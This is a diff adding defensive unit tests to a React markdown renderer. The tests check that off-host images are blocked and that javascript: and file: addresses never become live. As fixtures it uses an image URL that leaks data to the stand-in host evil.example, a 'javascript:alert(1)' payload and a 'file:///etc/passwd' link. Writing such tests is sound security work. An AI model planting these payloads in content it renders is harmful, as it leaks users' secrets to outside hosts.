@@ -1,4 +1,4 @@
-import { render, screen } from '@testing-library/react';
+import { render, screen, within } from '@testing-library/react';
 import { describe, expect, it } from 'vitest';
 import { MarkdownView } from '@/features/mind-box/components/markdown-view';
 
@@ -41,6 +41,52 @@ describe('reply markdown', () => {
     const link = screen.getByText('click').closest('a');
     expect(link?.getAttribute('href') ?? '').not.toMatch(/javascript/i);
     expect(container.innerHTML).not.toMatch(/javascript:/i);
+  });
+
+  it('never loads an image from another host: a placeholder shows its full address', () => {
+    const leak = 'https://evil.example/collect?d=my%20secret';
+    const { container } = render(
+      <MarkdownView text={`Here: ![chart](${leak}) and ![](//evil.example/p.png)`} />,
+    );
+    // No element a browser would fetch by itself.
+    expect(container.querySelector('img, [src], [srcset]')).toBeNull();
+    const [first, second] = screen.getAllByTestId('blocked-image');
+    expect(first).toHaveTextContent('Image not loaded: chart');
+    expect(first).toHaveTextContent(leak);
+    // A protocol-relative address is another host too, shown in full.
+    expect(second).toHaveTextContent(`${location.protocol}//evil.example/p.png`);
+    // Opening it is the user's choice: a new tab without a referrer or a handle on the app.
+    const open = within(first!).getByRole('link', { name: 'Open in a new tab' });
+    expect(open).toHaveAttribute('href', leak);
+    expect(open).toHaveAttribute('target', '_blank');
+    expect(open).toHaveAttribute('rel', 'noopener noreferrer');
+  });
+
+  it("shows the app's own images", () => {
+    render(<MarkdownView text="![logo](/favicon.svg)" />);
+    expect(screen.getByRole('img', { name: 'logo' })).toHaveAttribute('src', '/favicon.svg');
+    expect(screen.queryByTestId('blocked-image')).toBeNull();
+  });
+
+  it('an image without an address it may open shows only its description', () => {
+    const { container } = render(<MarkdownView text="![x](javascript:alert(1))" />);
+    const blocked = screen.getByTestId('blocked-image');
+    expect(blocked).toHaveTextContent('Image not loaded: x');
+    expect(within(blocked).queryByRole('link')).toBeNull();
+    expect(container.innerHTML).not.toMatch(/javascript:/i);
+  });
+
+  it('links only to web and mail addresses; others stay plain text', () => {
+    render(
+      <MarkdownView text="[web](https://a.example) [mail](mailto:a@b.example) [file](file:///etc/passwd)" />,
+    );
+    expect(screen.getByRole('link', { name: 'web' })).toHaveAttribute('href', 'https://a.example');
+    expect(screen.getByRole('link', { name: 'mail' })).toHaveAttribute(
+      'href',
+      'mailto:a@b.example',
+    );
+    expect(screen.queryByRole('link', { name: 'file' })).toBeNull();
+    expect(screen.getByText('file')).toBeInTheDocument();
   });
 
   it('a growing text keeps finished blocks and formats the new ones', async () => {
